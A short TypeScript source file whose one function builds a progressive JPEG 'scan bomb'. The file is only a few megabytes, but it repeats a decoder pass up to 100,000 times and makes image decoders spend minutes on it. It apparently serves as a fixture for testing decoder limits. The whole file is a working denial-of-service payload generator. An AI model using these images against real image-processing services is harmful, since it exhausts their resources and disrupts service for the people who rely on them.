/**
 * A progressive "scan bomb": one greyscale frame whose picture is a few bytes but whose
 * decoder pass is repeated `scans` times. Each AC scan covers every 8×8 block with a
 * handful of end-of-band runs (EOB14 = up to 32,767 blocks), so 100,000 scans of a
 * 4096² frame fit in about 3.4 MB and cost a decoder minutes.
 */
export function scanBombJpeg(opts: { side: number; scans: number }): Buffer {
  const side = opts.side;
  const blocks = Math.ceil(side / 8) ** 2;
  const seg = (marker: number, body: number[] | Buffer) =>
    Buffer.concat([Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 255]), Buffer.from(body)]);
  const dqt = seg(0xdb, [0x00, ...new Array<number>(64).fill(1)]);
  const sof2 = seg(0xc2, [8, side >> 8, side & 255, side >> 8, side & 255, 1, 1, 0x11, 0]);
  // DC table 0: one code "0" for category 0. AC table 0: 4-bit codes r for EOBr (r = 0…14), a run of 2^r + r extra bits.
  const dhtDc = seg(0xc4, [0x00, 1, ...new Array<number>(15).fill(0), 0x00]);
  const dhtAc = seg(0xc4, [0x10, 0, 0, 0, 15, ...new Array<number>(12).fill(0), ...Array.from({ length: 15 }, (_, r) => r << 4)]);
  const sos = (ss: number, se: number) => seg(0xda, [1, 1, 0x00, ss, se, 0x00]);
  const entropy = (write: (put: (bits: number, count: number) => void) => void) => {
    const out: number[] = [];
    let acc = 0;
    let n = 0;
    const put = (bits: number, count: number) => {
      for (let i = count - 1; i >= 0; i--) {
        acc = (acc << 1) | ((bits >> i) & 1);
        n++;
        if (n === 8) {
          out.push(acc);
          if (acc === 0xff) out.push(0x00);
          acc = 0;
          n = 0;
        }
      }
    };
    write(put);
    if (n > 0) put(0xff, 8 - n);
    return Buffer.from(out);
  };
  const dcScan = entropy((put) => {
    for (let i = 0; i < blocks; i++) put(0, 1);
  });
  const acScan = entropy((put) => {
    let left = blocks;
    while (left > 0) {
      const r = Math.min(14, Math.floor(Math.log2(left)));
      const run = Math.min(left, 2 ** (r + 1) - 1);
      put(r, 4);
      if (r > 0) put(run - 2 ** r, r);
      left -= run;
    }
  });
  const ac = Buffer.concat([sos(1, 63), acScan]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    dqt,
    sof2,
    dhtDc,
    dhtAc,
    sos(0, 0),
    dcScan,
    ...new Array<Buffer>(opts.scans).fill(ac),
    Buffer.from([0xff, 0xd9]),
  ]);
}
